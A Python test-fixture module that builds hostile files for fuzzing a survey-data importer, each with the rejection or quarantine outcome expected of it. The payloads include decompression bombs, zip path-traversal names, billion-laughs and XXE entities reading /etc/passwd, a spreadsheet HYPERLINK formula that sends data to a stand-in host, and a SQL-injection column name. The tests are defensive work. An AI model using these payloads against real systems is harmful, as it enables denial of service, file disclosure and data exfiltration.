"""Files that were made to harm: each with its feed and what must become of it."""

from __future__ import annotations

import gzip
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from tests.lib.fuzz_seeds import Seed, packed, seeds

HEADER = "PID,When,Q1,Q2\n"
GOOD = "{id},2026-05-01 10:00:00,1,2\n"
FORM = """
dialect = "{dialect}"
{more}
[feeds.columns]
client = "PID"
completed_at = "When"
[[feeds.instruments]]
id = "mini"
rater = "client"
items = {items}
"""
MIB = 1024**2
BOMB_MIB = 100


@dataclass(frozen=True)
class Hostile:
    """A file. refused: rule; else fates (received, accepted, quarantined, excluded) and rules of rows.

    whole: where it may also be read as if it were sound, how many records it has; its reader's own tests say which
    """

    content: bytes
    refused: str | None = None
    fates: tuple[int, int, int, int] = (0, 0, 0, 0)
    problems: tuple[str, ...] = ()
    more: str = ""
    items: str = '"Q{n}"'
    dialect: str = "csv"
    toml: str = ""
    whole: int | None = None

    @property
    def feed(self) -> str:
        return self.toml or FORM.format(dialect=self.dialect, more=self.more, items=self.items)


def rows(n: int, first: int = 1) -> str:
    return "".join(GOOD.format(id=f"c{number}") for number in range(first, first + n))


def text(body: str = "", header: str = HEADER) -> bytes:
    return (header + body).encode()


def _squeezed(mib: int) -> bytes:
    """Zeros as a gzip file, a thousandth of their size."""
    return gzip.compress(bytes(mib * MIB), mtime=0)


def _named(name: str) -> bytes:
    """A ZIP archive of one file whose name is written as it stands."""
    safe = name.replace("\0", "!").replace("\\", "!")
    return packed({safe: text(rows(1)), ".DS_Store": b""}).replace(safe.encode(), name.encode())


def _overlapping(members: int) -> bytes:
    """Members that all unpack the same bytes."""
    body = zlib.compress(bytes(20 * MIB), 9)[2:-4]
    check = zlib.crc32(bytes(20 * MIB))
    local = (
        struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, check, len(body), 20 * MIB, 1, 0) + b"a" + body
    )
    listed = b"".join(
        struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, check, len(body), 20 * MIB, 1, 0, 0, 0, 0, 0, 0
        )
        + b"a"
        for _ in range(members)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, members, members, len(listed), len(local), 0)
    return local + listed + end


def _locked() -> bytes:
    archive = bytearray(packed({"a.csv": text(rows(1))}))
    for at in (archive.index(b"PK\3\4") + 6, archive.index(b"PK\1\2") + 8):
        archive[at] |= 1
    return bytes(archive)


WIDE = 10_000
FORMULA = '=HYPERLINK("http://x.example?"&A1)'
SQL = 'Q1"); DROP TABLE core_export; --'
HUGE = ("9" * 400, "1e400", "NaN", "-1" + "0" * 50, "99999999999999999999", "0x10")


def archives() -> Mapping[str, Hostile]:
    bomb = _squeezed(BOMB_MIB)
    return {
        "gzip-bomb": Hostile(bomb, "archive_too_large"),
        "gzip-bomb-in-gzip": Hostile(gzip.compress(bomb), "archive_nested"),
        "zip-bomb": Hostile(packed({"a.csv": bytes(BOMB_MIB * MIB)}), "archive_too_large"),
        "zip-bomb-in-zip": Hostile(
            packed({"a.zip": packed({"a.csv": bytes(BOMB_MIB * MIB)})}), "archive_nested"
        ),
        "zip-overlapping": Hostile(_overlapping(2000), "archive_members"),
        "zip-many-members": Hostile(packed({f"{n}.csv": b"" for n in range(10_001)}), "archive_members"),
        "zip-parent": Hostile(_named("../../escaped.csv"), "archive_path"),
        "zip-absolute": Hostile(_named("/tmp/escaped.csv"), "archive_path"),
        "zip-backslash": Hostile(_named("..\\escaped.csv"), "archive_path"),
        "zip-nul": Hostile(_named("a\0.csv"), "archive_path"),
        "zip-password": Hostile(_locked(), "archive_encrypted"),
        "zip-cut": Hostile(packed({"a.csv": text(rows(50))})[:-40], "broken_archive"),
        "gzip-cut": Hostile(gzip.compress(text(rows(5000)))[:-9], "broken_archive"),
        "gzip-sound": Hostile(gzip.compress(text(rows(5))), fates=(5, 5, 0, 0)),
        "zip-sound": Hostile(packed({"a.csv": text(rows(5))}), fates=(5, 5, 0, 0)),
    }


def texts() -> Mapping[str, Hostile]:
    many = ",".join(f"n{n}" for n in range(WIDE))
    wide = "".join(f"{GOOD.format(id=f'c{n}').strip()},{','.join('7' * WIDE)}\n" for n in range(20))
    other = rows(2, 7).replace(",", ";")
    return {
        "nul-bytes": Hostile(text(rows(2) + "c\0,2026-05-01 10:00:00,1,2\nc4,2026-05-01 10:00:00,\0,2\n"), fates=(4, 3, 1, 0), problems=("not_an_answer",)),
        "only-nul-bytes": Hostile(bytes(2 * MIB), "undecodable_header"),
        "wide": Hostile(text(wide, f"PID,When,Q1,Q2,{many}\n"), fates=(20, 20, 0, 0)),
        "huge-cells": Hostile(text(rows(2) + f"c3,2026-05-01 10:00:00,{'x' * MIB},2\n" + "".join(f"c{n},{'y' * MIB},1,2\n" for n in range(4, 20))), fates=(19, 2, 17, 0), problems=("invalid_date", "not_an_answer")),
        "huge-record": Hostile(text(rows(2) + f'c3,2026-05-01 10:00:00,"{"x" * 9 * MIB}",2\n' + rows(2, 4)), fates=(5, 4, 1, 0), problems=("record_too_long",)),
        "huge-header": Hostile(("x" * 9 * MIB + "\n").encode(), "not_this_dialect"),
        "open-quotes": Hostile(text('"c,2026-05-01 10:00:00,1,2\n' * 20_001), fates=(20_001, 0, 20_001, 0), problems=("unclosed_quote",)),
        "huge-numbers": Hostile(text("".join(f"d{n},2026-05-01 10:00:00,{one},1\n" for n, one in enumerate(HUGE))), fates=(6, 0, 6, 0), problems=("not_an_answer", "out_of_range")),
        "mixed-encodings": Hostile(text(rows(2)) + "José,2026-05-01 10:00:00,1,2\n".encode("cp1252") + "Zoë,2026-05-01 10:00:00,1,2\n".encode(), fates=(4, 3, 1, 0), problems=("undecodable",)),
        "mark": Hostile(b"\xef\xbb\xbf" + text(rows(2)), fates=(2, 2, 0, 0)),
        "two-marks": Hostile(b"\xef\xbb\xbf" * 2 + text(rows(2)), "missing_column"),
        "utf-16-mark": Hostile(text(rows(2)).decode().encode("utf-16"), "undecodable_header"),
        "utf-16-declared": Hostile(text(rows(2)).decode().encode("utf-16"), fates=(2, 2, 0, 0), more='encoding = "utf-16"'),
        "utf-32-mark": Hostile(text(rows(2)).decode().encode("utf-32"), "undecodable_header"),
        "other-dialect-midway": Hostile(text(rows(2) + other + rows(2, 9)), fates=(6, 4, 2, 0), problems=("short_row",)),
        "tabs-midway": Hostile(text(rows(2) + other.replace(";", "\t") + rows(2, 9)), fates=(6, 4, 2, 0), problems=("short_row",)),
        "formula-ids": Hostile(text(f'"{FORMULA.replace(chr(34), chr(34) * 2)}",2026-05-01 10:00:00,1,2\n'), fates=(1, 1, 0, 0)),
        "sql-column": Hostile(text(rows(2), f"PID,When,\"{SQL.replace(chr(34), chr(34) * 2)}\",Q2\n"), fates=(2, 2, 0, 0), items=f"['{SQL}', \"Q2\"]"),
        "sql-column-missing": Hostile(text(rows(2)), "missing_column", items=f"['{SQL}', \"Q2\"]"),
    }  # fmt: skip


def formats() -> Mapping[str, Hostile]:
    """Of the dialects that are there; each from a sound file."""
    found: dict[str, Hostile] = {}
    by_name = {one.name: one for one in seeds()}
    for name in sorted(by_name.keys() & {"xlsx", "ods"}):
        found |= _of_workbook(by_name[name])
    for name in sorted(by_name.keys() & {"qualtrics_json", "fhir"}):
        found |= _of_json(by_name[name])
    if "redcap_odm" in by_name:
        found |= _of_markup(by_name["redcap_odm"])
    return found


ENTITIES = (
    b'<!DOCTYPE a [<!ENTITY e0 "ha">'
    + b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]>"
)
OUTSIDE = b'<!DOCTYPE a [<!ENTITY e11 SYSTEM "file:///etc/passwd">]>'


def _with_entities(part: bytes, declared: bytes) -> bytes:
    """An XML part with a document type before its first element, and an entity as its first text."""
    at = part.index(b"<", part.index(b"?>") if part.startswith(b"<?xml") else 0)
    end = part.rindex(b"</")
    return part[:at] + declared + part[at:end] + b"&e11;" + part[end:]


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {one.filename: archive.read(one) for one in archive.infolist()}


def _of_workbook(one: Seed) -> Mapping[str, Hostile]:
    members = _members(one.content)
    sheet = next(name for name in members if name in ("content.xml", "xl/worksheets/sheet1.xml"))
    bomb = {name: body for name, body in members.items() if name != sheet} | {
        sheet: members[sheet] + b" " * (200 * MIB)
    }
    return {
        f"{one.name}-entities": _but(
            one, packed(members | {sheet: _with_entities(members[sheet], ENTITIES)})
        ),
        f"{one.name}-outside": _but(one, packed(members | {sheet: _with_entities(members[sheet], OUTSIDE)})),
        f"{one.name}-bomb": _but(one, packed(bomb)),
        f"{one.name}-cut": _but(one, one.content[: len(one.content) // 2]),
        f"{one.name}-as-csv": Hostile(one.content, "not_this_dialect"),
    }


def _of_json(one: Seed) -> Mapping[str, Hostile]:
    return {
        f"{one.name}-deep": _but(one, b"[" * 1_000_000),
        f"{one.name}-deep-closed": _but(one, b'{"responses":' * 50_000 + b"1" + b"}" * 50_000),
        f"{one.name}-huge-number": _but(one, b'{"responses":[{"values":{"PID":' + b"9" * 100_000 + b"}}]}"),
        f"{one.name}-no-text": _but(one, bytes(range(256)) * 4000),
    }


def _of_markup(one: Seed) -> Mapping[str, Hostile]:
    return {
        f"{one.name}-entities": _but(one, _with_entities(one.content, ENTITIES)),
        f"{one.name}-outside": _but(one, _with_entities(one.content, OUTSIDE)),
        f"{one.name}-deep": _but(one, b"<a>" * 1_000_000),
        f"{one.name}-huge-attribute": _but(one, b'<ODM x="' + b"a" * (30 * MIB) + b'"/>'),
    }


def _but(one: Seed, content: bytes) -> Hostile:
    return Hostile(content, toml=one.toml, whole=one.rows)


def cases() -> Mapping[str, Hostile]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return {**archives(), **texts(), **formats()}
